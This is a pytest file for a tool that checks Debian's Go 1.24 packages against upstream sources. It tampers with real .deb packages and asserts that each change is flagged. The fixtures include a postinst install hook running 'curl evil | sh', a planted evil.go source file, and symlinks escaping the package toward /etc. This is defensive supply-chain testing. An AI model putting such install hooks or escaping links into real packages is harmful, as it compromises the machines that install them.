"""Whatever is changed in a real package, the change is named and does not pass."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from support import blind_spots
from support.cli import Result, Samego
from support.deb_repack import Deb, Member, new_file, new_link
from support.tamper import Tamper, Tampering, finding_path, kind_of, seeded

pytestmark = pytest.mark.network

_PASSES = {"identical", "equivalent", "explained"}
_BATCHES = 4
_SEEDED = 300
_SEED = 1244

Check = Callable[..., Result]


@pytest.fixture(scope="module")
def debs(trixie_go124_debs: list[Path]) -> list[Deb]:
    return [Deb(path) for path in trixie_go124_debs]


@pytest.fixture(scope="module")
def check(samego: Samego, go1244_module_zip: Path, go124_source: Path) -> Check:
    """Check packages against upstream's files at hand."""
    source = next(go124_source.glob("*.dsc"))

    def run(*packages: Path) -> Result:
        return samego(
            "check",
            *packages,
            *("--upstream", go1244_module_zip),
            *("--source", source),
            *("--format", "json"),
        )

    return run


@pytest.fixture(scope="module")
def shipped(trixie_report: Path) -> Mapping[str, str]:
    """The standing of each path of the package as Debian ships it, if not identical."""
    return _standings(json.loads(trixie_report.read_text("utf-8")))


@pytest.fixture(scope="module")
def work(debs: list[Deb], shipped: Mapping[str, str]) -> Tampering:
    """Every change of this module, placed in batches."""
    work = Tampering(debs, _BATCHES, _SEED)
    # Where the package's own file does not pass, a change there would show nothing.
    executables = [
        path
        for path in work.kinds["executable"]
        if shipped.get(finding_path(path), "identical") in _PASSES
    ]
    zips = [path for path in work.kinds["archive"] if path.endswith(_REWRITTEN_ZIPS)]
    for files, ways in (
        (executables, blind_spots.ELF),
        (zips, blind_spots.ZIP),
        (work.kinds["png"][:4], blind_spots.PNG),
        (work.kinds["gz"], blind_spots.GZ),
    ):
        # More ways than batches: no file can take them all.
        for path, (how, change) in zip(itertools.cycle(files), ways.items(), strict=False):
            _place(work, path, how, change)
    for below, ways in blind_spots.DECLARED.items():
        path = next(path for path in _real_paths(below) if any(path in deb for deb in debs))
        for how, change in ways.items():
            _place(work, path, how, change)
    seeded(work, _SEEDED)
    return work


def _place(work: Tampering, path: str, how: str, change: blind_spots.Change) -> None:
    member = work.member(path)
    changed = member.with_data(change(member.data))
    assert changed.data != member.data, (path, how)
    assert work.place(kind_of(path, member.data), how, {path: changed}), (path, how)


#: Zip files that strip-nondeterminism rewrites in Debian's package.
_REWRITTEN_ZIPS = (
    "lib/time/zoneinfo.zip",
    "lib/fips140/v1.0.0.zip",
    "html/template/testdata/fs.zip",
)


def _real_paths(below: str) -> tuple[str, str]:
    return (f"usr/lib/go-1.24/{below}", f"usr/share/go-1.24/{below}")


def _standings(report: Mapping[str, Any]) -> dict[str, str]:
    return {finding["path"]: finding["standing"] for finding in report["findings"]}


def _missed(tampers: list[Tamper], found: Mapping[str, str]) -> list[str]:
    """The changes that were not named, or that pass."""
    return [
        f"{tamper.how} of {tamper.kind} {tamper.path}: {found.get(tamper.path, 'not named')}"
        for tamper in tampers
        if found.get(tamper.path, "identical") in _PASSES
    ]


@pytest.mark.parametrize("number", range(_BATCHES))
def test_each_change_is_named_and_none_passes(
    number: int, work: Tampering, check: Check, tmp_path: Path
) -> None:
    batch = work.batches[number]
    result = check(*batch.repack(work.debs, tmp_path))
    assert result.status == 1, result.stderr
    assert not result.report["passes"]
    assert _missed(batch.tampers, _standings(result.report)) == []


def test_the_changes_are_many_and_of_all_sorts(work: Tampering) -> None:
    tampers = [tamper for batch in work.batches for tamper in batch.tampers]
    assert len(tampers) >= _SEEDED
    # VERSION is left to the blind spots: it says what is checked.
    assert {tamper.kind for tamper in tampers} == set(work.kinds)
    spots = {*blind_spots.ELF, *blind_spots.ZIP, *blind_spots.PNG, *blind_spots.GZ}
    declared = {how for some in blind_spots.DECLARED.values() for how in some}
    assert {tamper.how for tamper in tampers} >= spots | declared


def test_what_is_not_changed_keeps_its_standing(
    work: Tampering, check: Check, shipped: Mapping[str, str], tmp_path: Path
) -> None:
    """A change on one path does not blur what is said of the others."""
    path = "usr/share/go-1.24/src/fmt/print.go"
    src = work.debs[1]
    changed = src[path].with_data(src[path].data + b"\n")
    packages = [
        work.debs[0].repack(tmp_path, {}),
        src.repack(tmp_path, {path: changed}),
        work.debs[2].repack(tmp_path, {}),
    ]
    assert _standings(check(*packages).report) == {**shipped, "src/fmt/print.go": "unexplained"}


_ROOT = "usr/lib/go-1.24"


def _lone_changes() -> Iterator[tuple[str, int, dict[str, Callable[[Deb], Member | None]], str]]:
    """Changes that alter what is checked: name, package, new entries, what must be named."""

    def flipped(deb: Deb, path: str) -> Member:
        data = deb[path].data
        return deb[path].with_data(data[:40] + bytes([data[40] ^ 1]) + data[41:])

    yield (
        "another release in VERSION",
        0,
        {f"{_ROOT}/VERSION": lambda deb: deb[f"{_ROOT}/VERSION"].with_data(b"go1.24.3\n")},
        "1.24.3",
    )
    yield "no VERSION", 0, {f"{_ROOT}/VERSION": lambda _deb: None}, "VERSION"
    changelog = "usr/share/doc/golang-1.24-go/changelog.Debian.gz"
    yield "changelog", 0, {changelog: lambda deb: flipped(deb, changelog)}, changelog
    yield (
        "a file below the link to the sources",
        0,
        {f"{_ROOT}/src/evil.go": lambda _deb: new_file("", b"package evil\n")},
        "src/evil.go",
    )
    for name, link, target in (
        ("a directory's link to /etc", f"{_ROOT}/lib", "/etc"),
        ("a link out of the package", f"{_ROOT}/test", "../../../../../etc"),
    ):
        yield name, 0, {link: _linked(target)}, link.rpartition("/")[2]


#: Each takes the way of the case before it.
_KIN = ("no VERSION", "a link out of the package")


def _linked(target: str) -> Callable[[Deb], Member]:
    return lambda _deb: new_link("", target)


@pytest.mark.parametrize(
    ("package", "changes", "named"),
    [
        pytest.param(*case[1:], id=case[0], marks=pytest.mark.long if case[0] in _KIN else ())
        for case in _lone_changes()
    ],
)
def test_a_change_of_what_is_checked_does_not_pass(
    package: int,
    changes: Mapping[str, Callable[[Deb], Member | None]],
    named: str,
    debs: list[Deb],
    trixie_go124_debs: list[Path],
    check: Check,
    tmp_path: Path,
) -> None:
    deb = debs[package]
    changed = deb.repack(tmp_path, {path: make(deb) for path, make in changes.items()})
    # What lies below the link to the sources is there with them alone.
    others = trixie_go124_debs[1:] if named.startswith("src/") else []
    result = check(changed, *others)
    if result.status == 1:
        missed = [
            path for path, standing in _standings(result.report).items() if standing not in _PASSES
        ]
        assert any(named in path for path in missed), missed
    else:
        assert result.status == 2, result.stderr
        assert named in result.stderr


def test_a_script_that_runs_on_installation_is_named(
    debs: list[Deb], trixie_go124_debs: list[Path], check: Check, tmp_path: Path
) -> None:
    go, *_others = trixie_go124_debs
    changed = debs[0].repack(tmp_path, {}, {"postinst": b"#!/bin/sh\ncurl evil | sh\n"})
    assert changed.name == go.name
    found = _standings(check(changed).report)
    assert found["/DEBIAN/golang-1.24-go.postinst"] == "unexplained"
